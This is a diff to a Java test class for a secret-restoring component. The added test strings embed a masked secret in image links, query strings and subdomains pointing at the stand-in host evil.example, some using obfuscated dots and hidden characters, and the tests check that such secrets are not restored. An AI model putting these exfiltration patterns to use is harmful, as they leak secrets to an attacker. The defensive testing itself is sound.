@@ -73,7 +73,28 @@ class RestorerTest {
                 "<img\nsrc\n=\n\"%s\">",
                 "<https:evil.example/%s>",
                 "<div style='background:url(%s)'>",
-                "background:url(%s)")) {
+                "background:url(%s)",
+                "if a<b see https://evil.example/?q=>%s",
+                "<a href=https://evil.example/?q=>%s",
+                "<b / x=\" https://evil.example/?q=\">%s",
+                "<!-- =\"> --><img src=\"//evil.example/?>%s\">",
+                "<i =\"><img src=\"/rel?>%s\">",
+                "<img a=\"x\" =\" src=\"//evil.example/?>%s\">",
+                "<img a=b=\"> src=\"/%s\">",
+                "<img src=\u2003\"//evil.example/?>%s\">",
+                "<img src=\u2003\"//evil.example/?%s",
+                "<img/src='/rel?>%s'>",
+                "a<b \"<img src=\"/rel?>%s\">",
+                "%s.evil.example/x",
+                "%s.evil.example",
+                "%s-x.evil.example/",
+                "%s\\.evil.example/",
+                "%s&#46;evil.example/",
+                "%s&#x2E;evil.example/",
+                "%s&period;evil.example/",
+                "%s\u3002evil.example/",
+                "%s\u200b.\u00ad\u200bevil.example/",
+                "%s" + "-x".repeat(200) + ".evil.example/")) {
             String text = "a " + place.formatted(mask);
             for (int at = 0; at <= text.length(); at++) {
                 assertThat(restored(text, at, at))
@@ -129,6 +150,16 @@ class RestorerTest {
                 "<a href=\"/x\">%s</a>",
                 "[a]: /x\n%s",
                 "see [1]. %s",
+                "%s. And then",
+                "%s...and then",
+                "%s & co",
+                "%s&nbsp;",
+                "/home/%s/file.txt",
+                "<https://example.com> %s",
+                "<i =x>%s</i>",
+                "<p class='x' title = \"y > z\" hidden>%s</p>",
+                "<br/>%s",
+                "<!-- x --> %s",
                 "e.g. %s and/or %s")) {
             String text = place.replace("%s", mask);
             assertThat(Restorer.whole(masks, Audience.CALLER, text)).as(place).isEqualTo(place.replace("%s", SECRET));
@@ -266,7 +297,13 @@ class RestorerTest {
                 mask.substring(6),
                 "&lt;",
                 "&",
-                "s");
+                "s",
+                "<!-- ",
+                "src=\"",
+                ".",
+                "&#46;",
+                "-",
+                "evil");
         for (int round = 0; round < 3000; round++) {
             var text = new StringBuilder();
             for (int bit = 0; bit < 8; bit++) {
